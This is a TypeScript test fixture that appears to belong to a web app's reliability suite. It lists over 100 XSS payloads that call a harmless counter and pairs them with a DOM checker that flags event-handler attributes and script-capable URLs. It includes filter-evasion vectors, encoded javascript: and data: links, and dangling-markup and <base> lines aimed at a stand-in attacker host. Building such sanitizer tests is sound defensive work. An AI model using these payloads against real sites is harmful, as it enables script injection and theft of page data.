/**
 * The XSS corpus of the reliability suite (issue 17 item 6): ≥ 100 payloads, each of which, if it
 * ever ran, would call the global counter `window.__xss()`. Hand-written vectors (filter evasion,
 * SVG/MathML, on* attributes, <base>, <form>/formaction, dangling markup, template/srcdoc/iframe,
 * CSS) plus `javascript:`/`data:` links in every case, entity and whitespace disguise.
 */
const CALL = '__xss()';
const JS = `javascript:${CALL}`;

const HAND_WRITTEN: readonly string[] = [
  `<script>${CALL}</script>`,
  `<SCRIPT>${CALL}</SCRIPT>`,
  `<script src="data:text/javascript,${CALL}"></script>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `"><script>${CALL}</script>`,
  `'><script>${CALL}</script>`,
  `</title><script>${CALL}</script>`,
  `</textarea><script>${CALL}</script>`,
  `</style><script>${CALL}</script>`,
  `<img src=x onerror=${CALL}>`,
  `<img src="x" onerror="${CALL}">`,
  `<IMG SRC=x OnErRoR=${CALL}>`,
  `<img src=x onerror=&#95;&#95;xss()>`,
  `<img src=x:x onerror=eval(atob('X194c3MoKQ=='))>`,
  `<img/src=x/onerror=${CALL}>`,
  `<img src=x onerror\n=${CALL}>`,
  `<img src="x\` \`<script>${CALL}</script>"\` \`>`,
  `<img """><script>${CALL}</script>">`,
  `<svg onload=${CALL}>`,
  `<svg/onload=${CALL}>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<svg><a xlink:href="${JS}"><text x="20" y="20">clique</text></a></svg>`,
  `<svg><set attributeName="onmouseover" to="${CALL}"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${CALL}</script>"></iframe></foreignObject></svg>`,
  `<svg><style><img src=x onerror=${CALL}></style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}></style></mglyph></table></mtext></math>`,
  `<math><maction actiontype="statusline" xlink:href="${JS}">clique</maction></math>`,
  `<math href="${JS}">clique</math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${CALL}>`,
  `<body onload=${CALL}>`,
  `<div onmouseover="${CALL}">passe o mouse</div>`,
  `<div onclick=${CALL}>clique</div>`,
  `<p onfocus=${CALL} tabindex=0 autofocus>foco</p>`,
  `<input autofocus onfocus=${CALL}>`,
  `<select autofocus onfocus=${CALL}>`,
  `<textarea autofocus onfocus=${CALL}>`,
  `<keygen autofocus onfocus=${CALL}>`,
  `<details open ontoggle=${CALL}>`,
  `<marquee onstart=${CALL}>`,
  `<video><source onerror=${CALL}></video>`,
  `<audio src=x onerror=${CALL}>`,
  `<object data="${JS}"></object>`,
  `<object data="data:text/html,<script>parent.${CALL}</script>"></object>`,
  `<embed src="${JS}">`,
  `<embed src="data:image/svg+xml,<svg onload=parent.${CALL}>">`,
  `<iframe src="${JS}"></iframe>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=parent.${CALL}&gt;"></iframe>`,
  `<iframe src="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3MoKTwvc2NyaXB0Pg=="></iframe>`,
  `<frameset onload=${CALL}>`,
  `<template><img src=x onerror=${CALL}></template>`,
  `<template shadowrootmode="open"><img src=x onerror=${CALL}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<noembed><img title="</noembed><img src=x onerror=${CALL}>"></noembed>`,
  `<xmp><p title="</xmp><img src=x onerror=${CALL}>">`,
  `<listing><img src=x onerror=${CALL}></listing>`,
  `<base href="${JS}//">`,
  `<base href="https://atacante.example/">`,
  `<form action="${JS}"><button>Enviar</button></form>`,
  `<form><button formaction="${JS}">Enviar</button></form>`,
  `<form id=f></form><button form=f formaction="${JS}">Enviar</button>`,
  `<input type="image" src=x formaction="${JS}">`,
  `<isindex action="${JS}" type=image>`,
  `<img src='https://atacante.example/?`,
  `<a href='https://atacante.example/?`,
  `<table background="${JS}">`,
  `<meta http-equiv="refresh" content="0;url=${JS}">`,
  `<link rel="import" href="data:text/html,<script>${CALL}</script>">`,
  `<style>@import 'data:text/css,*{x:expression(${CALL})}';</style>`,
  `<div style="width: expression(${CALL});">css</div>`,
  `<div style="background:url('${JS}')">css</div>`,
  `<div style="behavior: url(xss.htc);">css</div>`,
  `<style>*{background:url("${JS}")}</style>`,
  `<a href="#" style="-moz-binding:url('data:text/xml,x')">css</a>`,
  `<img src=x onerror=\u0061lert(1)//${CALL}>`,
  `<a href="${JS}" target="_blank">link</a>`,
  `<a href="https://exemplo.com.br" target="_blank" onclick="${CALL}">link</a>`,
  `<a href="https://exemplo.com.br" rel="opener" target="_blank">link</a>`,
  `<button onclick="${CALL}">botão</button>`,
  `<div data-bind="${CALL}" onpointerenter=${CALL}>x</div>`,
  `<x contenteditable onblur=${CALL}>x</x>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${CALL}'/></svg>#x"/></svg>`,
  `{{constructor.constructor('${CALL}')()}}`,
  `\${${CALL}}`,
  `<img src=x onerror=${CALL}//`,
  `<<img src=x onerror=${CALL}//<`,
  `<!--<img src="--><img src=x onerror=${CALL}//">`,
  `<![CDATA[><img src=x onerror=${CALL}>]]>`,
  `<?xml version="1.0"?><img src=x onerror=${CALL}>`,
];

/** `javascript:` and `data:` links with case, entity, whitespace and control-character tricks, in an <a href>. */
export const XSS_URLS: readonly string[] = [
  JS,
  `JaVaScRiPt:${CALL}`,
  ` javascript:${CALL}`,
  `\tjavascript:${CALL}`,
  `java\tscript:${CALL}`,
  `java\nscript:${CALL}`,
  `java&#x09;script:${CALL}`,
  `&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${CALL}`,
  `&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;${CALL}`,
  `&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058${CALL}`,
  `javascript&colon;${CALL}`,
  `\x01javascript:${CALL}`,
  `vbscript:${CALL}`,
  `data:text/html,<script>parent.${CALL}</script>`,
  `data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3MoKTwvc2NyaXB0Pg==`,
  `DATA:text/html,<script>parent.${CALL}</script>`,
  `data:image/svg+xml,<svg onload="parent.${CALL}"/>`,
];

const LINKS = XSS_URLS.flatMap((url) => [`<a href="${url}">link</a>`, `<a href='${url}' target=_blank>link</a>`]);

export const XSS_PAYLOADS: readonly string[] = [...HAND_WRITTEN, ...LINKS];

/** Installs the counter the payloads would call; returns a reader of how many times it ran. */
export function installXssCounter(target: Window & typeof globalThis = window): () => number {
  let calls = 0;
  (target as unknown as { __xss: () => void }).__xss = () => {
    calls += 1;
  };
  return () => calls;
}

/** What the DOM under `root` must never hold: on* attributes, and script-capable URLs in href/src/action/formaction/xlink:href. */
export function domThreats(root: ParentNode): { onAttributes: string[]; scriptUrls: string[] } {
  const onAttributes: string[] = [];
  const scriptUrls: string[] = [];
  for (const element of Array.from(root.querySelectorAll('*'))) {
    for (const attr of Array.from(element.attributes)) {
      const name = attr.name.toLowerCase();
      if (name.startsWith('on')) onAttributes.push(`${element.tagName.toLowerCase()} ${name}`);
      if (!/^(href|src|action|formaction|xlink:href|data|background|srcdoc)$/.test(name)) continue;
      // Browsers drop control characters and blanks inside a scheme ('java\tscript:').
      const value = Array.from(attr.value).filter((c) => c.charCodeAt(0) > 0x20).join('').toLowerCase();
      // Allowed: an uploaded PNG/JPEG shown as an image, and the alert's file offered for download (not opened).
      const allowedImage = element.tagName === 'IMG' && name === 'src' && /^data:image\/(png|jpeg);base64,/.test(value);
      const allowedDownload = element.tagName === 'A' && name === 'href' && element.hasAttribute('download') && /^data:(image\/(png|jpeg)|application\/(pdf|octet-stream));base64,/.test(value);
      if (name === 'srcdoc' || value.startsWith('javascript:') || value.startsWith('vbscript:') || (value.startsWith('data:') && !allowedImage && !allowedDownload)) scriptUrls.push(`${element.tagName.toLowerCase()} ${name}=${attr.value.slice(0, 40)}`);
    }
  }
  return { onAttributes, scriptUrls };
}
